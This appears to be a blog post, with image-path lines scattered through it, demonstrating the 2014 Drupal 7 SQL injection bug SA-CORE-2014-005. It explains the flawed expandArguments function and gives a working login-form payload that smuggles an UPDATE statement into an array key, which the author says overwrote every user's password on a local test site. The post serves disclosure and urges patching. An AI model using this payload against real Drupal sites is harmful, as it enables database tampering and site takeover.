Drupageddon - SA-CORE-2014-005 - Drupal 7 SQL injection exploit demo

Drupageddon - SA-CORE-2014-005 - Drupal 7 SQL injection exploit demo

Yesterday Drupal security team announced highly critical bug at https://www.drupal.org/SA-CORE-2014-005. Looking at the actual patch which is simply:

-      foreach ($data as $i => $value) {
+      foreach (array_values($data) as $i => $value) {

I wondered how this could be exploited and how much time and effort it would take?
Therefore I decided to install older Drupal 7 version on my localhost and reverse engineer this bug. What I discovered was a shocking bug which gives anyone with basic knowledge about HTML/SQL a full access to your Drupal site.

Lets start from beginning.

Looking at the patched file in includes/database/database.inc I added some log functions to get sense of what expandArguments function does.
If you know Drupal, you know that to write a query with arguments you would use syntax like:

db_query("SELECT * FROM {users} where name IN (:name)", array(':name'=>array('user1','user2')));

The function assumes that it is called with an array which has no keys.
Which results in this SQL Statement

SELECT * from users where name IN (:name_0, :name_1)

with the parameters name_0 = user1 and name_1 = user2.
Problem occurs, if the array has keys, which are no integers. Example:

db_query("SELECT * FROM {users} where name IN (:name)", array(':name'=>array('test -- ' => 'user1','test' => 'user2')));

this results in an exploitable SQL query:

SELECT * FROM users WHERE name = :name_test -- , :name_test AND status = 1

with parameters :name_test = user2.

Since Drupal uses PDO, multi-queriesare allowed. So this SQL Injection can be used to insert arbitrary data in the database, dump or modify existing data or drop the whole database.

However how to manipulate this from user which has no access to Drupal and which can't actually change the array of parameters?

My first taught was a login form.
I run a short search for db_query command in user.module and shockingly I found this!

$account = db_query("SELECT * FROM {users} WHERE name = :name AND status = 1", array(':name' => $form_state['values']['name']))->fetchObject();

$form_state['values']['name']is coming from user login form, respectively from name field.
When looking at what expandArguments function outputs for this query I found this:

SELECT * FROM {users} WHERE name = :name AND status = 1

And :name argument is seen like this:

array(1) {
  string(5) " test"

Now the problem was how to get an array instead of string? My first taught was to manipulate the HTML. Looking at login form we see this HTML for name field:

<input type="text" id="edit-name" name="name" value=" test" size="60" maxlength="60" class="form-text required error">Lets try to change this using Chrome Inspect Element into:

<input type="text" id="edit-name" name="name[1 ;UPDATE {users} SET pass= 'test123'; -- ]" value="" size="60" maxlength="60" class="form-text required error">
<input type="text" id="edit-name" name="name[1]" value="" size="60" maxlength="60" class="form-text required error">

What I did is changed the name into array, and added SQL injected query as array key.Looking now at the logs from database.inc Drupal will parse it as:

SELECT * FROM {users} WHERE name = :name_1 ;UPDATE {users} SET pass= 'test123'; -- , :name_1 AND status = 1

And Ijust hacked myself! All my users now have 'test123' as a password in the database!
I managed to execute SQL injection into Drupal 7 using anonymous user in a less than 30mins of trying!

NOTE: This still won't allow you to login since Drupal uses SHA512 with salt so its not possible to actually login. Intentionally I didn't put the code in here, but obviously anyone with little bit ofDrupal knowledge willknow how to overcome this and construct the query which will give you full access!

Hopefully this blog will get you sense on how vulnerable this bug is and how urgent its for you to update your Drupal 7 sites.

This opens a question on how secure is Drupal and whos responsible for something like this? Apparently this bugwas known for more than a year(https://www.drupal.org/node/2146839), but nobodydidn't react on Drupal.org.Accidentally or intentionally? :)